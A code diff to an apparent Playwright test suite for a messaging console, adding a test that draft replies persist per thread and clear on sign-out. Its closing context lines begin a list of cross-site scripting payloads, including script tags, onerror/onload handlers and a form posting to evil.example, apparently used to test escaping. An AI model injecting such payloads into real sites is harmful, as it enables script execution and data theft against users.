@@ -167,6 +167,43 @@ test("two agents: what a handset writes appears at once, is answered, and a STOP
   expect(await ana!.page.getByText("The gateway cannot be reached.").count()).toBe(0);
 });
 
+test("a reply that is half typed waits in its thread while one looks into another, until it is sent or one signs out", async () => {
+  const { g, origins } = await desks(["Ana"]);
+  await g.mo(FR, "36105", "Bonjour, où est mon colis ?");
+  await g.mo(OTHER, "36105", "Merci");
+  const { page } = await opened(origins[0]!);
+  await page.goto("/console/inbox");
+  const field = page.locator("#text");
+  const open = async (words: string) => {
+    await page.locator("#thread-list").getByText(words).click();
+    await page.locator("#messages .inbound").getByText(words).waitFor();
+    await live(page);
+  };
+  await open("Bonjour");
+  await field.fill("Il arrive de");
+  await open("Merci");
+  expect(await field.inputValue()).toBe("");
+  await field.fill("Avec plaisir");
+  await open("Bonjour");
+  expect(await field.inputValue()).toBe("Il arrive de");
+  await expect.poll(() => outcome(page), PATIENT).toBe("queued");
+  await field.fill("Il arrive demain");
+  await field.press("Control+Enter");
+  await page.locator("#messages .outbound").getByText("Il arrive demain").waitFor();
+  await page.reload();
+  await live(page);
+  expect(await field.inputValue()).toBe("");
+  await open("Merci");
+  expect(await field.inputValue()).toBe("Avec plaisir");
+  const drafts = () =>
+    page.evaluate("Object.keys(sessionStorage).filter((key) => key.startsWith('parley_draft')).length");
+  expect(await drafts()).toBe(1);
+  await page.locator(".menu summary").click();
+  await page.getByRole("button", { name: "Sign out" }).click();
+  await page.waitForLoadState();
+  await expect.poll(drafts).toBe(0);
+});
+
 const HOSTILE = [
   `<img src=x onerror="document.title='owned'"><script>document.title='owned'</script>`,
   `"><svg onload=alert(1)> {{constructor}} </textarea></li></ol><form action=https://evil.example>`,
